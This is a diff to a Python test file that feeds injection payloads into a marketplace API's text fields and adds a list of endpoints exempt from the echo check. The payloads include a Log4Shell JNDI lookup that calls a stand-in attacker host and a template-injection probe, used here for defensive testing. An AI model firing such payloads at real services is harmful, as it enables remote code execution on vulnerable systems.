@@ -31,6 +31,8 @@ EVIL = (
     "${jndi:ldap://evil.example/a}",
     "{{7*7}}",
 )
+SILENT = ("/api/chat", "/api/products/{product_id}/stock")
+"""Their answers don't repeat what was said."""
 PASSWORD = "kopi tubruk 7"  # noqa: S105  made up
 ACCOUNT = {"name": "Sari", "email": "sari@example.com", "password": PASSWORD}
 
@@ -118,7 +120,7 @@ def test_every_text_field_takes_it_as_text_or_refuses_it(
                 sent["sku"] = f"S-{number}-{EVIL.index(evil)}"
             told = market.request(method, address, headers=headers, json=sent)
             assert told.status_code in {200, 201, 204, 401, 403, 404, 409, 422}, (path, field, told.text)
-            if told.status_code in {200, 201} and path != "/api/chat":
+            if told.status_code in {200, 201} and path not in SILENT:
                 assert evil in texts(told.json()), (path, field, told.text)
     assert market.get("/api/products/search", params={"q": "laptop"}).status_code == 200
     assert market.get("/api/suppliers").json()["items"]
